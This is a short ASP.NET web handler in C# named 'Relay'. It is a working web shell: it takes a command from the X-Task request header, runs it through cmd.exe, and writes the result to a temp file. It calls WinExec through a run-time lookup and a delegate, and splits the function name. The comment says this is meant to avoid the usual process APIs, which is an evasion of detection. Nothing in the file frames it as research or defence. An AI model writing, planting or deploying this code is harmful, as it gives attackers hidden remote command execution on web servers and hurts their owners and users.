<%@ WebHandler Language="C#" Class="Relay" %>
using System;
using System.Runtime.InteropServices;
using System.Web;

// A cmd.exe command line is built around a request header and run through an export looked up
// at run time and called by a delegate: no Process class and no process function declared.
public class Relay : IHttpHandler
{
    delegate uint Runner(string line, uint show);

    [DllImport("kernel32")] static extern IntPtr GetModuleHandle(string name);
    [DllImport("kernel32")] static extern IntPtr GetProcAddress(IntPtr module, string export);

    public void ProcessRequest(HttpContext ctx)
    {
        string task = ctx.Request.Headers["X-Task"];
        if (task == null) return;
        string line = "C:\\Windows\\System32\\cmd.exe /c " + task + " > %TEMP%\\r.txt";
        IntPtr at = GetProcAddress(GetModuleHandle("kernel32"), "Win" + "Exec");
        Runner run = (Runner)Marshal.GetDelegateForFunctionPointer(at, typeof(Runner));
        ctx.Response.Write(run(line, 0));
    }

    public bool IsReusable { get { return false; } }
}
